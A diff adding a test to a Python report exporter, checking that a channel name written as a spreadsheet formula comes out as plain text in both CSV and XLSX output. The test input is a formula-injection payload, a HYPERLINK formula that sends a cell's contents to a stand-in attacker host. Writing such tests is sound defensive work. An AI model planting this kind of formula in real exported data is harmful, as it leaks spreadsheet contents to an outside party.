@@ -93,6 +93,25 @@ async def test_xlsx_survives_control_characters_in_names(day, tmp_path: Path) ->
     assert rows[1][2] == "门口\ufffd\ufffd摄像机\ufffd"
 
 
+async def test_a_channel_named_like_a_formula_stays_text(day, tmp_path: Path) -> None:
+    """A device may name its channel ``=HYPERLINK(...)``: the CSV writes it with a leading apostrophe (a
+    spreadsheet shows it as text, never runs it) and the XLSX cell is a string, not a formula."""
+    import csv
+    from dataclasses import replace
+
+    from openpyxl import load_workbook
+
+    name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    hostile = replace(day, channels=[replace(day.channels[0], name=name)] + day.channels[1:])
+    render(hostile, ATT, "csv", tmp_path / "r.csv")
+    table = [line for line in (tmp_path / "r.csv").read_text("utf-8-sig").splitlines() if not line.startswith("#")]
+    rows = list(csv.reader(table))
+    assert rows[1][2] == "'" + name
+    render(hostile, ATT, "xlsx", tmp_path / "r.xlsx")
+    cell = load_workbook(tmp_path / "r.xlsx")["点位 Channels"].cell(row=2, column=3)
+    assert cell.value == name and cell.data_type == "s"
+
+
 def check_pdf(path: Path, tmp_path: Path) -> str:
     """Render the first two pages to PNG and return the PDF's text."""
     pdftoppm = need_tool("pdftoppm")
